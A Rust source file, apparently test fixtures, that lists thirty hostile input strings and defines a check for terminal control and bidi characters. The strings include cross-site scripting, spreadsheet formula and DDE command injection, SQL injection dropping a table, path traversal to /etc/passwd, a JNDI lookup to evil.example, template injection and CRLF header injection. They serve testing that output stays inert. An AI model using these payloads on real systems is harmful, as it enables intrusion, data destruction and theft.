//! Text that breaks what does not expect it: markup, spreadsheets, terminals, parsers, logs.

/// What no page, list, export, terminal or parser may do anything with but show it.
pub const HOSTILE: [&str; 30] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "</title><script>",
    "&lt;b&gt;&amp;&#x41;",
    "javascript:alert(1)",
    "=HYPERLINK(\"https://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "a\"b,c;d\te",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "over\u{8}\u{8}write\rback",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}isolated\u{2069}",
    "zero\u{200b}width\u{feff}",
    "line\nbreak",
    "line\r\nset-cookie: x=1",
    "nul\0byte",
    "\u{7f}\u{85}\u{2028}\u{2029}",
    "' OR '1'='1",
    "\"; DROP TABLE grants; --",
    "%00%0d%0a%2e%2e%2f",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%s%n%x",
    "e\u{301}\u{1F469}\u{200D}\u{1F680}\u{10FFFF}",
    "Ω≈ç√∫˜µ≤≥÷",
];

/// Whether nothing in `text` moves a terminal's cursor, rings, colours or turns text around, beyond
/// the line breaks and tabs between rows.
pub fn is_inert(text: &str) -> bool {
    !text.chars().any(|c| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    })
}
